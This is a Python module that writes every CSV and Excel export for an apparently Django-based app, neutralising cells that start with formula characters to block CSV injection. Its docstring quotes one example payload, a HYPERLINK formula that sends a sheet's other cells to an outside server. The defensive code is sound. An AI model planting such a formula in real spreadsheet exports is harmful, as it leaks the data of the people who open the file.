"""The one writer of every CSV and Excel file sendhub hands out.

Text in a download can come from anyone who types into sendhub: a clinician naming a waiting list,
a partner writing a local offer entry, a leader naming a Big Plan action. A spreadsheet program opens
a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some programs skip
before reading a formula) as a formula: `=HYPERLINK("http://…?"&A1,"Click")` then sends the sheet's
other cells to someone else's server when it is clicked. So, following the OWASP guidance on CSV
injection (https://owasp.org/www-community/attacks/CSV_Injection):

- in a CSV file, a text cell starting with one of those characters is written with a single quote in
  front (`'=HYPERLINK(…)`), which spreadsheet programs show as text;
- in an Excel file, every text cell is written as a string cell (never a formula), with Excel's
  "quote prefix" style so editing it does not turn it into one either;
- real numbers (int, float, Decimal, not bool) stay numbers: a negative number is a number, not a
  formula, and the figures must add up in the spreadsheet.

Every export goes through `csv_cell`/`write_csv`/`csv_text`/`csv_response`/`xlsx_bytes`: a new one
must too (a test greps the code for `csv.writer` and `openpyxl` outside this module).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def is_number(value: Any) -> bool:
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def neutralise(text: str) -> str:
    """Text as a spreadsheet will show it and never run it: a leading formula character gets a quote before it."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def restore(text: str) -> str:
    """Undo `neutralise` for a file read back in (an ORUK CSV export imported elsewhere in sendhub)."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS) else text


def _text(value: Any) -> str:
    if value is None:
        return ""
    if value is True or value is False:
        return "true" if value else "false"
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def csv_cell(value: Any) -> Any:
    """One cell for a CSV file: a number as it is; anything else as text, neutralised."""
    if is_number(value):
        return value
    return neutralise(_text(value))


def write_csv(handle: IO[str], rows: Iterable[Sequence[Any]], *, lineterminator: str = "\r\n") -> None:
    writer = csv.writer(handle, lineterminator=lineterminator)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])


def csv_text(rows: Iterable[Sequence[Any]], *, lineterminator: str = "\r\n") -> str:
    buffer = io.StringIO()
    write_csv(buffer, rows, lineterminator=lineterminator)
    return buffer.getvalue()


def csv_response(rows: Iterable[Sequence[Any]], filename: str):
    """A CSV download (an HttpResponse) of `rows`."""
    from django.http import HttpResponse

    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    write_csv(response, rows)
    return response


def xlsx_bytes(sheets: Sequence[tuple[str, Iterable[Sequence[Any]]]]) -> bytes:
    """An Excel workbook with one sheet per (title, rows): numbers as numbers, everything else a string cell."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets:
        sheet = book.create_sheet(title)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                if value is None or value == "":
                    continue
                cell = sheet.cell(row=r, column=c)
                if is_number(value):
                    cell.value = value
                    continue
                text = ILLEGAL_CHARACTERS_RE.sub("", _text(value))
                cell.value = text
                cell.data_type = "s"  # openpyxl reads a leading "=" as a formula: this is text, always
                if text.startswith(FORMULA_TRIGGERS):
                    cell.quotePrefix = True
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_response(sheets: Sequence[tuple[str, Iterable[Sequence[Any]]]], filename: str):
    from django.http import HttpResponse

    response = HttpResponse(xlsx_bytes(sheets), content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
